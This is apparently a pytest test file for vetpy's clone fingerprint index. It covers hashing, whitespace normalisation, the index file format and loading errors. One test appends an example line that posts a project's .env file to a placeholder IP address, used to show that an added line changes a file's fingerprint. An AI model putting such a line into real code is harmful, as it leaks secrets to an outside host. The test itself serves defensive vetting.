"""The clone fingerprint index: fingerprints, look-ups, the file format and its loading errors."""

from __future__ import annotations

import io
import json
import random
from pathlib import Path

import numpy as np
import pytest

from vetpy.errors import VetpyError
from vetpy.features import clones
from vetpy.features.clones import (
    MIN_BYTES,
    CloneIndex,
    CloneIndexError,
    decode_index,
    encode_index,
    fingerprint,
    load_index,
    normalise,
)

REAL = b'"""A helper module."""\n\nimport os\n\n\ndef home() -> str:\n    return os.path.expanduser("~")\n'
OTHER = (
    b"def add(a: int, b: int) -> int:\n    return a + b\n\n\ndef sub(a: int, b: int) -> int:\n    return 0\n"
)
INFO = {"built": "2026-12-01", "projects": 2, "source": "a test"}


def index_of(*files: bytes) -> CloneIndex:
    digests = [d for d in map(fingerprint, files) if d is not None]
    return decode_index(encode_index(digests, INFO))


def npz(**arrays: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, **arrays)  # type: ignore[arg-type]
    return buffer.getvalue()


def meta(info: dict[str, object]) -> np.ndarray:
    return np.frombuffer(json.dumps(info).encode(), dtype=np.uint8)


def test_indexed_files_are_known_and_others_are_not() -> None:
    index = index_of(REAL)
    assert index.known(REAL)
    assert not index.known(OTHER)
    assert not index.known(REAL.replace(b"~", b"/tmp"))  # one changed character
    assert not index.known(REAL + b"post('http://198.51.100.7/', open('.env').read())\n")  # one added line


def test_line_endings_and_trailing_whitespace_do_not_matter_anything_else_does() -> None:
    index = index_of(REAL)
    assert index.known(REAL.replace(b"\n", b"\r\n"))
    assert index.known(REAL.replace(b"\n", b"  \t\n"))
    assert not index.known(REAL.replace(b"    return", b"\treturn"))  # indentation is code
    assert not index.known(REAL.replace(b"import os", b"import  os"))  # inner whitespace is kept
    assert not index.known(b"\n" + REAL)  # added lines, even blank, change the file
    assert normalise(b"a \r\nb\t\n\nc  ") == b"a\nb\n\nc"
    assert normalise(b"a\rb") == b"a\rb"  # a lone CR inside a line is content

    def plain(data: bytes) -> bytes:
        return b"\n".join(line.rstrip() for line in data.replace(b"\r\n", b"\n").split(b"\n"))

    rng = random.Random(4)
    pieces = [b"a", b"bc", b" ", b"\t", b"\r", b"\n", b"\r\n", b"\x0b", b"\x0c", b"\x1c", b"\xa0", b"\x00"]
    for _ in range(3000):
        data = b"".join(rng.choice(pieces) for _ in range(rng.randint(0, 30)))
        assert normalise(data) == plain(data), data


def test_files_under_the_minimum_are_never_known() -> None:
    small = b"x" * (MIN_BYTES - 1)
    assert fingerprint(small) is None and fingerprint(b"") is None
    assert fingerprint(b"x" * MIN_BYTES) is not None
    assert fingerprint(b"x" * (MIN_BYTES - 2) + b" \t \r\n") is None  # measured once normalised
    index = index_of(small, b"x" * MIN_BYTES)
    assert len(index.digests) == 1 and not index.known(small) and index.known(b"x" * MIN_BYTES)


def test_the_fingerprint_is_the_first_eight_bytes_of_the_sha256() -> None:
    import hashlib

    assert fingerprint(REAL + b"  ") == int.from_bytes(hashlib.sha256(REAL).digest()[:8], "little")


def test_encoding_sorts_deduplicates_and_records_provenance() -> None:
    digests = [2**64 - 1, 5, 2**63, 5, 0]
    index = decode_index(encode_index(digests, INFO))
    assert index.digests.tolist() == [0, 5, 2**63, 2**64 - 1]
    assert index.info == {**INFO, "format": 1, "digests": 4}
    assert all(d in index for d in (0, 5, 2**63, 2**64 - 1)) and 6 not in index and 2**64 - 2 not in index
    empty = decode_index(encode_index([], INFO))
    assert empty.digests.size == 0 and not empty.known(REAL)
    with pytest.raises(CloneIndexError, match="lacks source"):
        encode_index([1], {"built": "x", "projects": 1})


def test_loading_errors_are_clear(tmp_path: Path) -> None:
    with pytest.raises(CloneIndexError, match=r"missing\.npz: cannot read the clone index"):
        load_index(tmp_path / "missing.npz")
    good = {**INFO, "format": 1, "digests": 2}
    cases = {
        b"not an archive": "not a readable clone index",
        npz(info=meta(good)): "not a readable clone index",  # no digests array
        npz(digests=np.array([1, 2], dtype=object), info=meta(good)): "not a readable clone index",  # pickle
        npz(digests=np.array([1, 2], dtype=np.int64), info=meta(good)): "1-D uint64",
        npz(digests=np.array([2, 1], dtype=np.uint64), info=meta(good)): "not sorted and distinct",
        npz(digests=np.array([1, 1], dtype=np.uint64), info=meta(good)): "not sorted and distinct",
        npz(digests=np.array([1, 2], dtype=np.uint64), info=np.frombuffer(b"{", np.uint8)): "not JSON",
        npz(digests=np.array([1, 2], dtype=np.uint64), info=meta(INFO)): "lacks one of",
        npz(digests=np.array([1], dtype=np.uint64), info=meta(good)): "with 2 digests is not format 1 with 1",
    }
    for number, (raw, message) in enumerate(cases.items()):
        path = tmp_path / f"bad{number}.npz"
        path.write_bytes(raw)
        with pytest.raises(CloneIndexError, match=message) as caught:
            load_index(path)
        assert str(path) in str(caught.value) and "\n" not in str(caught.value)
        assert isinstance(caught.value, VetpyError)
    path.write_bytes(npz(digests=np.array([1, 2], dtype=np.uint64), info=meta(good)))
    assert load_index(path).digests.tolist() == [1, 2]


def test_known_file_loads_the_shipped_index_once(monkeypatch: pytest.MonkeyPatch) -> None:
    loads: list[None] = []

    def load(path: Path | None = None) -> CloneIndex:
        assert path is None  # the shipped one
        loads.append(None)
        return index_of(REAL)

    monkeypatch.setattr(clones, "_shipped", None)
    monkeypatch.setattr(clones, "load_index", load)
    assert clones.known_file(REAL) and not clones.known_file(OTHER) and clones.known_file(REAL + b" ")
    assert clones.index_info()["source"] == "a test"
    assert len(loads) == 1


def test_a_missing_shipped_index_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
    from importlib import resources

    class Gone:
        def joinpath(self, *parts: str) -> Gone:
            return self

        def read_bytes(self) -> bytes:
            raise FileNotFoundError(2, "No such file or directory")

    monkeypatch.setattr(clones, "_shipped", None)
    monkeypatch.setattr(resources, "files", lambda package: Gone())
    with pytest.raises(CloneIndexError, match=r"vetpy/data/clones\.npz: cannot read the clone index"):
        clones.known_file(REAL)


def test_the_shipped_index_is_well_formed_and_names_no_host(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(clones, "_shipped", None)
    info = clones.index_info()
    index = clones.shipped_index()
    assert info["digests"] == index.digests.size > 10_000 and info["projects"] == len(info["releases"]) >= 100
    assert info["source"].startswith("popular.csv") and len(info["built"]) == 10
    assert "://" not in json.dumps(info)  # provenance names releases, never where they came from
    assert not clones.known_file(REAL) and not clones.known_file(b"")
